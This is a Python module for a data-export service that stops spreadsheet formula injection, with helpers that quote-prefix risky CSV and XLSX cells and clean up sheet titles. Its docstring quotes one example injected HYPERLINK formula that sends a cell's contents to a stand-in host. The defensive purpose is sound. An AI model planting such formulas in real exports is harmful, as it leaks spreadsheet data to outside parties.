"""Cells that stay data when a spreadsheet opens an export: one judge for every CSV and XLSX we write.

An event title from a source (``=HYPERLINK("http://x/?"&A1,"klik")``) or an acknowledgement note is
text someone else typed; opened in Excel or LibreOffice it must not become a live formula. OWASP's
rule: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to a spreadsheet. In a CSV such a cell is prefixed with ``'`` (``neutralise``); in an XLSX it is
written as a string cell with Excel's "quote prefix" (``append_row``), so its text stays exactly what
the page showed and no editing turns it into a formula. Numbers are numbers: a real ``-5`` is
written as the number -5 in both, only text is neutralised.

Sheet titles come from panel titles and translations: ``sheet_title`` removes what Excel refuses in
them (``/ \\ ? * [ ] :``, a leading or trailing ``'``, more than 31 characters), so a panel called
"Harga 1/2: beras" exports instead of answering 500.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TITLE_REFUSED = re.compile(r"[\\/?*\[\]:\x00-\x1f]")
TITLE_LIMIT = 31


def risky(value: Any) -> bool:
    """Text a spreadsheet would read as a formula; numbers, dates and None never are."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """A CSV field that stays data: risky text gets OWASP's ``'`` prefix, anything else is as given."""
    return "'" + value if risky(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``: None as an empty field, text neutralised."""
    return ["" if v is None else neutralise(v) for v in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append`` with every text cell a string cell: openpyxl would store text starting with
    ``=`` as a formula. Risky text also gets the quote prefix, so Excel keeps it text when edited."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if risky(cell.value):
                cell.quotePrefix = True


def sheet_title(text: str, default: str = "Data") -> str:
    """A title Excel accepts: no ``/ \\ ? * [ ] :`` or control characters, no ``'`` at either end,
    at most 31 characters; ``default`` when nothing is left."""
    title = _TITLE_REFUSED.sub("-", text).strip().strip("'")[:TITLE_LIMIT].strip().strip("'")
    return title or default
